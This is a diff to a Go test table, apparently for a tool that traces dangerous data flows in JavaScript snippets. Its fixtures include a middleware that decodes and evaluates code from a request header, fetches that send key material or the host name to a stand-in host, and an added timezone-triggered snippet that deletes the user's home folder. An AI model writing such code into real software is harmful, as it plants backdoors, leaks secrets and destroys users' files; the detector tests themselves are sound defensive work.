@@ -83,6 +83,8 @@ func TestChains(t *testing.T) {
 		{"headers", "const vm = require('vm'); module.exports = (q, r, next) => { vm.runInThisContext(Buffer.from(q.headers['x-a'], 'hex').toString()); next() }", "decoded text > evaluation, incoming request > evaluation"},
 		{"what is used as a key", "const c = require('crypto'); exports.a = (x, m) => { fetch('https://h.invalid', {headers: {id: x}}); return c.createHmac('sha256', x).update(m).digest() }", "key material > request"},
 		{"an object with a key in it", "const c = require('crypto'); exports.a = (o, m) => { fetch(o.url); return c.createHmac('sha256', o.key).update(m).digest() }", ""},
+		{"files of the user", "const fs = require('fs'), os = require('os'); if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'X') for (const n of fs.readdirSync(os.homedir())) fs.rmSync(os.homedir() + '/' + n, {recursive: true})", "home folder > removed files"},
+		{"a file of the package", "const fs = require('fs'), os = require('os'); console.log(os.homedir()); fs.rmSync('build', {recursive: true})", ""},
 		{"its own name", "require('dns').lookup(require('os').hostname(), f)", ""},
 		{"its own name in another", "require('dns').lookup(require('os').hostname() + '.h.invalid', f)", "identity > name lookup"},
 		{"members of the environment", "const {PATH, HOME = ''} = process.env; fetch('https://h.invalid/' + PATH)", ""},
